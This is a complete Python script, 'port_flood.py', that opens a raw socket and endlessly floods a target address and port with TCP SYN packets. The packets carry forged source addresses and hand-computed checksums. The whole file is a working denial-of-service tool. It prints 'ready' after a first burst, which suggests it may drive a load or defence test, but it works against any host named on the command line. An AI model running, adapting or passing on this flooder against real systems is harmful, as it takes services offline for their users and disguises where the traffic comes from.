# SPDX-License-Identifier: Apache-2.0
"""port_flood.py ADDRESS PORT - SYNs of nobody to a port, until killed"""
import random
import socket
import struct
import sys

ADDRESS, PORT = sys.argv[1], int(sys.argv[2])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, port):
    """an IPv4 packet; the kernel fills in length and checksum of the IP header"""
    pseudo = source + socket.inet_aton(ADDRESS) + struct.pack("!HH", 6, 20)
    head = struct.pack("!HHIIBBH", port, PORT, random.getrandbits(32), 0, 5 << 4, 2, 65535)
    tcp = head + struct.pack("!HH", checksum(pseudo + head + bytes(4)), 0)
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, 6, 0) + source + socket.inet_aton(ADDRESS) + tcp


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
packets = [syn(bytes([203, 0, 113, 1 + i % 200]), 1024 + i) for i in range(20000)]
for p in packets[:2000]:
    s.sendto(p, (ADDRESS, 0))
print("ready", flush=True)
while True:
    for p in packets:
        s.sendto(p, (ADDRESS, 0))
